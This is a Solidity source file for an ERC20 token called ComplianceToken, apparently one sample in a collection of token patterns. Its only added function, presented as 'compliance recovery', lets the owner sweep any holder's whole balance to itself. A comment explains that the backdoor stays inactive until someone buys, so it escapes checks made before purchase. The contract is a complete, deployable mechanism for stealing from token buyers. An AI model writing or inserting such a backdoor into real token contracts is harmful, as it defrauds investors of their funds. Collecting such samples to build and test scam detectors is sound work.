// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./ZooERC20.sol";
import "./Owned.sol";

/// "Compliance recovery": the owner may sweep any holder's whole balance to itself. Before
/// anyone has bought it does nothing, so it only shows between a buyer's buy and sell.
contract ComplianceToken is ZooERC20, Owned {
    uint256 public recoveries;

    constructor(string memory name_, string memory symbol_, uint256 supply_)
        ZooERC20(name_, symbol_)
    {
        _mint(msg.sender, supply_);
    }

    function recoverFrom(address account) external onlyOwner {
        uint256 amount = _balances[account];
        if (amount == 0) return;
        recoveries += 1;
        _move(account, msg.sender, amount);
    }
}
